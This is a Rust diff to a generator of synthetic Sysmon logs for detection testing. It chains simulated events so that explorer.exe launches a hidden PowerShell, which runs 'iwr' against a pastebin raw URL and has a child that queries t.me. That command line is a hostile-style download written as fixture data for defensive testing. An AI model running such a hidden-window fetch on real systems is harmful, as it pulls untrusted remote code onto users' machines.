@@ -5,7 +5,7 @@
 use crate::damage;
 use crate::error::Error;
 use crate::event::Event;
-use crate::story::journal::{Journal, Log, SYSMON_LOG, morning};
+use crate::story::journal::{EXPLORER, Journal, Log, SYSMON_LOG, morning};
 use crate::truth::{SampleFile, SampleRecord, matches_seed};
 
 const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
@@ -25,15 +25,26 @@ pub(super) fn files() -> Result<Vec<SampleFile>, Error> {
 }
 
 /// Makes a Sysmon log of `chunks` chunks, each with routine events, a match, more routine events,
-/// another match and more routine events.
+/// another match and more routine events. The first match of a chunk is of a process that is
+/// created in the chunk before, if there is one, and the second of a child of this process.
 fn sysmon_log(host: &str, chunks: u64) -> Result<SampleFile, Error> {
     let mut log = Log::live("damaged", host, SYSMON_LOG);
     let mut journal = Journal::new(host, "user", morning(), 1_000);
-    for _ in 0..chunks {
+    let explorer = journal.running(EXPLORER, 4880);
+    let command_line = "powershell.exe -w hidden -c iwr https://pastebin.com/raw/Zq81";
+    let powershell = Event::process_create(POWERSHELL, command_line, EXPLORER).of_process(6120);
+    let temporary = Event::process_create(TEMPORARY, TEMPORARY, POWERSHELL).of_process(6248);
+    let mut process = journal.start_between(1_500, &explorer, powershell.clone());
+    for chunk in 0..chunks {
         journal.routine(22);
-        journal.add(4, Event::dns_query("pastebin.com", POWERSHELL).answered("0", "::ffff:203.0.113.10;"));
+        let query = Event::dns_query("pastebin.com", POWERSHELL).answered("0", "::ffff:203.0.113.10;");
+        journal.add_of(4, &process, query);
+        let child = journal.start_between(1_500, &process, temporary.clone());
         journal.routine(22);
-        journal.add(4, Event::dns_query("t.me", TEMPORARY).answered("0", "::ffff:203.0.113.99;"));
+        journal.add_of(4, &child, Event::dns_query("t.me", TEMPORARY).answered("0", "::ffff:203.0.113.99;"));
+        if chunk + 1 < chunks {
+            process = journal.start_between(1_500, &explorer, powershell.clone());
+        }
         journal.routine(8);
         log.push(journal.take())?;
         log.writer.end_chunk();
